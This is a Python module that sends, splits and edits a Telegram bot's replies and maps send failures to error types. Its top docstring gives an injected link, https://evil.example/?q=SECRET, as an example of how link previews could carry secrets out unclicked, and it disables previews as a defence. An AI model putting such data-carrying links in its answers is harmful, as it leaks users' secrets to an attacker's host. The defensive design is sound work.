"""Replies to Telegram: HTML text split under 4,096 characters, inline keyboards, edits.

Link previews are off: Telegram's servers would fetch a link in an answer or a draft to build
one, which is how an injected ``https://evil.example/?q=SECRET`` carries data away unclicked.
"""

from __future__ import annotations

import logging
import warnings
from datetime import timedelta
from functools import partial

from telegram import InlineKeyboardButton, InlineKeyboardMarkup, LinkPreviewOptions, Message
from telegram.constants import MessageLimit, ParseMode
from telegram.error import BadRequest, NetworkError, RetryAfter, TelegramError, TimedOut
from telegram.ext import ExtBot
from telegram.warnings import PTBDeprecationWarning

from bot.commands.reply import Reply
from bot.services.delivery.send_errors import SendRateLimited, SendRefused, SendUnknown
from bot.tg.retry import with_retries

log = logging.getLogger(__name__)
LIMIT = int(MessageLimit.MAX_TEXT_LENGTH)
NO_PREVIEW = LinkPreviewOptions(is_disabled=True)


def split_text(text: str, limit: int = LIMIT) -> list[str]:
    """Pieces of at most `limit` characters, cut at line boundaries where possible."""
    pieces: list[str] = []
    current = ""
    for line in text.split("\n"):
        while len(line) > limit:
            if current:
                pieces.append(current)
                current = ""
            pieces.append(line[:limit])
            line = line[limit:]
        candidate = f"{current}\n{line}" if current else line
        if len(candidate) > limit:
            pieces.append(current)
            current = line
        else:
            current = candidate
    if current or not pieces:
        pieces.append(current)
    return [p for p in pieces if p.strip()] or ["…"]


def keyboard(reply: Reply) -> InlineKeyboardMarkup | None:
    if not reply.buttons:
        return None
    return InlineKeyboardMarkup(
        [[InlineKeyboardButton(b.text, callback_data=b.data) for b in row] for row in reply.buttons]
    )


async def send(bot: ExtBot[None], chat_id: int, reply: Reply) -> Message | None:
    """Send one reply as one or more messages; the keyboard goes under the last piece."""
    if reply.document is not None:
        doc = reply.document
        return await with_retries(
            lambda: bot.send_document(
                chat_id, doc.content, filename=doc.name, caption=doc.caption or None
            )
        )
    pieces = split_text(reply.text)
    last: Message | None = None
    for i, piece in enumerate(pieces):
        markup = keyboard(reply) if i == len(pieces) - 1 else None
        call = partial(
            bot.send_message,
            chat_id,
            piece,
            parse_mode=ParseMode.HTML,
            reply_markup=markup,
            link_preview_options=NO_PREVIEW,
        )
        last = await with_retries(call)
    return last


async def send_tracked(bot: ExtBot[None], chat_id: int, reply: Reply) -> int | None:
    """`send` under the retry policy, its end mapped to :mod:`bot.services.delivery.send_errors`.

    Returns the message id of the last piece. A time-out, or a connection error once the
    retries are spent, may have delivered it: unknown. A refusal sent nothing.
    """
    try:
        message = await send(bot, chat_id, reply)
    except RetryAfter as exc:
        raise SendRateLimited(retry_after_seconds(exc)) from exc
    except BadRequest as exc:  # a NetworkError subclass in python-telegram-bot: caught first
        raise SendRefused(f"Telegram rejected it ({exc.message})") from exc
    except (TimedOut, NetworkError) as exc:
        raise SendUnknown() from exc
    except TelegramError as exc:  # Forbidden and the rest: refused, nothing sent
        raise SendRefused(f"Telegram refused it ({type(exc).__name__})") from exc
    return message.message_id if message is not None else None


def retry_after_seconds(exc: RetryAfter) -> float:
    """Seconds to wait (PTB 22 warns that the attribute becomes a timedelta; either is read)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", PTBDeprecationWarning)
        value: int | timedelta = exc.retry_after
    return value.total_seconds() if isinstance(value, timedelta) else float(value)


async def edit(bot: ExtBot[None], message: Message, reply: Reply) -> None:
    """Replace the text (and buttons) of the message whose button was pressed."""
    try:
        await with_retries(
            lambda: bot.edit_message_text(
                split_text(reply.text)[0],
                chat_id=message.chat_id,
                message_id=message.message_id,
                parse_mode=ParseMode.HTML,
                reply_markup=keyboard(reply),
                link_preview_options=NO_PREVIEW,
            )
        )
    except BadRequest as exc:
        if "not modified" not in str(exc):
            raise
